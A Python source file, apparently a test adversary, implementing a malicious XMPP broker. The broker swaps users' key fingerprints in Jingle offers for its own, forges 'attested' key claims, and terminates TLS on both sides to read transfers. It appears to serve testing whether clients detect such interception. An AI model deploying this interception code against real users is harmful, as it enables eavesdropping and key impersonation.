"""A malicious broker: a component (XEP-0114, raw) that stands between two users, swaps the prints in their offers for
those of its own keys, and terminates TLS on both sides (OpenSSL). It reads everything between the two.

Settings: link (host and port of the component port), secret, marker (a text in the content), sessions: for each that
will come, in order, what to do: {"swap": "x509" | "openpgp" | "" (prints pass untouched)}. With vouch (true) it also says, in
hints and as the registry, that its keys are the users' own.
"""

import asyncio
import base64
import hashlib
import json
import ssl
from pathlib import Path
from xml.etree import ElementTree as ET

from openpgp_spki import certificate as openpgp_certificate
from peer import HINTS, KEYS, TIMEOUT, main, reason
from tls_over_ibb import TlsStream, certificate, file_print

COMPONENT_NS, IBB = "jabber:component:accept", "http://jabber.org/protocol/ibb"
JINGLE = "{urn:xmpp:jingle:1}jingle"
STREAM = "http://etherx.jabber.org/streams"


class Stream:
    """One in-band bytestream of a leg, as tls_over_ibb takes it."""

    def __init__(self, broker, own, user, sid, size):
        self.broker, self.own, self.user, self.sid, self.size = broker, own, user, sid, size
        self.recv_queue, self.seq, self.lock = asyncio.Queue(), 0, asyncio.Lock()
        broker.streams[(user, sid)] = self

    async def sendall(self, data, timeout):
        async with self.lock:
            for at in range(0, len(data), self.size):
                block = base64.b64encode(data[at : at + self.size]).decode()
                await self.broker.request(
                    self.own, self.user, f"<data xmlns='{IBB}' sid='{self.sid}' seq='{self.seq % 65536}'>{block}</data>"
                )
                self.seq += 1


class Session:
    """One session of two users, seen from between them."""

    def __init__(self, plan, sides):
        # sides[0] has begun; each: address of the user, our address towards it, its sid.
        self.plan, self.sides = plan, sides
        self.read = [b"", b""]
        self.handshakes = [None, None]
        self.reasons = [None, None]
        self.over = asyncio.Event()
        self.streams, self.pumping = [], set()

    def report(self, marker):
        return {
            "handshakes": self.handshakes,
            "reasons": self.reasons,
            "read": [len(data) for data in self.read],
            "content": any(marker.encode() in data for data in self.read),
        }


class Broker:
    def __init__(self, settings):
        self.settings, self.jid = settings, settings["component"]
        self.plans, self.done = list(settings["sessions"]), []
        self.users, self.sessions, self.streams, self.answers = {}, {}, {}, {}
        self.count = 0
        directory = Path(settings["directory"])
        x509 = certificate(directory, "mallory")
        openpgp = openpgp_certificate(directory, "mallory-openpgp", "mallory@example.test")
        self.keys = {"x509": (*x509, file_print(x509[1], "sha256")), "openpgp": openpgp}

    # The link.

    async def connect(self):
        reader, self.writer = await asyncio.open_connection(*self.settings["link"])
        self.send(f"<stream:stream xmlns='{COMPONENT_NS}' xmlns:stream='{STREAM}' to='{self.jid}'>")
        self.parser, self.depth = ET.XMLPullParser(("start", "end")), 0
        self.tasks = set()
        async for element in self.elements(reader):
            if element.tag == f"{{{STREAM}}}stream":
                digest = hashlib.sha1((element.get("id") + self.settings["secret"]).encode()).hexdigest()
                self.send(f"<handshake>{digest}</handshake>")
            elif element.tag.endswith("}handshake"):
                print(json.dumps({"event": "linked"}), flush=True)
            else:
                self.handle(element)

    async def elements(self, reader):
        while data := await reader.read(65536):
            self.parser.feed(data)
            for event, element in self.parser.read_events():
                self.depth += 1 if event == "start" else -1
                if (event, self.depth) in (("start", 1), ("end", 1)):
                    yield element

    def send(self, text):
        self.writer.write(text.encode())

    def request(self, own, user, payload):
        self.count += 1
        name = f"m{self.count}"
        self.answers[name] = asyncio.get_running_loop().create_future()
        self.send(f"<iq type='set' id='{name}' from='{own}' to='{user}'>{payload}</iq>")
        return asyncio.wait_for(self.answers[name], TIMEOUT)

    def spawn(self, work):
        task = asyncio.ensure_future(work)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    # Stanzas.

    def handle(self, stanza):
        sender, to, kind = stanza.get("from"), stanza.get("to"), stanza.get("type")
        if stanza.tag.endswith("}presence"):
            priority = stanza.findtext("{%s}priority" % COMPONENT_NS)
            if kind is None and priority is not None and int(priority) >= 0:
                self.users[sender.partition("/")[0]] = sender
            return
        if not stanza.tag.endswith("}iq"):
            return
        if kind in ("result", "error"):
            future = self.answers.pop(stanza.get("id"), None)
            if future and not future.done():
                future.set_result(kind)
            return
        payload = stanza[0] if len(stanza) else None
        answer = ""
        if self.settings.get("vouch") and payload is not None and payload.tag == f"{{{KEYS}}}keys":
            answer = self.registered(payload.get("jid"))
        self.send(f"<iq type='result' id='{stanza.get('id')}' from='{to}' to='{sender}'>{answer}</iq>")
        if payload is None:
            return
        if payload.tag == JINGLE:
            self.jingle(sender, to, payload)
        elif payload.tag == f"{{{IBB}}}open":
            self.spawn(self.opened(sender, to, payload))
        elif payload.tag == f"{{{IBB}}}data":
            stream = self.streams.get((sender, payload.get("sid")))
            if stream:
                stream.recv_queue.put_nowait(base64.b64decode(payload.text or ""))
        elif payload.tag == f"{{{IBB}}}close":
            stream = self.streams.get((sender, payload.get("sid")))
            if stream:
                stream.recv_queue.put_nowait(None)

    def registered(self, user):
        """Its own keys as proven keys of a user."""
        keys = "".join(
            f"<key id='{method}' method='{method}' state='active' assurance='attested'>"
            f"<print hash='{'sha-256' if method == 'x509' else 'sha-1'}'>{key[2]}</print></key>"
            for method, key in self.keys.items()
        )
        return f"<keys xmlns='{KEYS}' jid='{user}'>{keys}</keys>"

    def mask(self, user):
        bare, _, resource = user.partition("/")
        return bare.replace("@", "\\40") + f"@{self.jid}/{resource}"

    def jingle(self, sender, to, jingle):
        action, sid = jingle.get("action"), jingle.get("sid")
        if action == "session-initiate":
            callee = self.users[to.partition("@")[0].replace("\\40", "@")]
            session = Session(self.plans.pop(0), [(sender, to, sid), (callee, self.mask(sender), f"m-{sid}")])
            self.sessions[(sender, sid)] = (session, 0)
            self.sessions[(callee, f"m-{sid}")] = (session, 1)
        session, side = self.sessions[(sender, sid)]
        if action == "session-terminate":
            session.reasons[side] = reason(jingle)
            session.over.set()
        elif action not in ("session-initiate", "session-accept"):
            return
        user, own, sid = session.sides[1 - side]
        jingle.set("sid", sid)
        if jingle.get("initiator"):
            jingle.set("initiator", own)
        if jingle.get("responder"):
            jingle.set("responder", own)
        swap = session.plan["swap"]
        for element in jingle.iter():
            name = element.tag.split("}")[1]
            if swap and name in ("print", "fingerprint"):
                element.text = self.keys[swap][2]
        if swap and self.settings.get("vouch"):
            content = next(child for child in jingle if child.tag.endswith("}content"))
            hints = ET.SubElement(content, f"{{{HINTS}}}hints", jid=sender.partition("/")[0])
            verdict = {"method": swap, "verdict": "match", "assurance": "attested"}
            ET.SubElement(hints, f"{{{HINTS}}}print", verdict).text = self.keys[swap][2]
        self.forward(session, side, jingle)
        self.spawn(self.request(own, user, ET.tostring(jingle, encoding="unicode")))

    def forward(self, session, side, jingle):
        """Changes what the other user of a session gets of a side's."""

    # TLS on both sides.

    async def opened(self, sender, to, payload):
        sid, size = payload.get("sid"), int(payload.get("block-size"))
        session = next(s for (user, _), (s, side) in self.sessions.items()
                       if user == sender and side == 0 and not s.over.is_set())  # fmt: skip
        first = Stream(self, to, sender, sid, size)
        user, own, _ = session.sides[1]
        second = Stream(self, own, user, sid, size)
        session.streams = [first, second]
        await self.request(own, user, f"<open xmlns='{IBB}' sid='{sid}' block-size='{size}' stanza='iq'/>")
        channels = []
        for stream, server in ((first, True), (second, False)):
            made = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER if server else ssl.PROTOCOL_TLS_CLIENT)
            made.check_hostname = False
            made.verify_mode = ssl.CERT_NONE
            key, cert, _ = self.keys[session.plan["swap"] or "x509"]
            made.load_cert_chain(cert, key)
            channels.append(TlsStream(stream, made, server))

        async def handshake(n, work):
            try:
                await work
                session.handshakes[n] = True
            except Exception as error:
                session.handshakes[n] = type(error).__name__

        async def held_back():
            """The handshake with the responder except our last flight, so that the initiator judges first."""
            while True:
                try:
                    return channels[1].tls.do_handshake()
                except ssl.SSLWantReadError:
                    await channels[1]._flush()
                    channels[1].incoming.write(await asyncio.wait_for(second.recv_queue.get(), TIMEOUT))

        async def pump(n):
            session.pumping.add(n)
            try:
                while data := await channels[n]._until_done(lambda: channels[n].tls.read(65536)):
                    session.read[n] += data
                    await channels[1 - n].write(data)
            except (ssl.SSLError, TypeError, asyncio.TimeoutError):
                pass  # The stream is over.
            finally:
                session.pumping.discard(n)
            # The other side waits for the end of the stream: it is passed on.
            try:
                channels[1 - n].tls.unwrap()
            except ssl.SSLError:
                pass
            try:
                await channels[1 - n]._flush()
            except asyncio.TimeoutError:
                pass  # A user who has left does not answer.

        await handshake(1, held_back())
        await handshake(0, channels[0]._until_done(channels[0].tls.do_handshake))
        await channels[1]._flush()
        await asyncio.gather(pump(0), pump(1))

    async def run(self):
        link = asyncio.ensure_future(self.connect())
        wanted = len(self.plans)
        while len(self.done) < wanted:
            await asyncio.sleep(0.05)
            for session, side in list(self.sessions.values()):
                if side == 0 and session not in self.done and session.over.is_set():
                    # Earlier bytes are in the queues of both streams, or were read. What is over is not read any more.
                    while any(not session.streams[n].recv_queue.empty() for n in session.pumping):
                        await asyncio.sleep(0.05)
                    await asyncio.sleep(0.5)
                    self.done.append(session)
        link.cancel()
        return {"sessions": [session.report(self.settings["marker"]) for session in self.done]}


if __name__ == "__main__":
    main(lambda settings: Broker(settings).run())
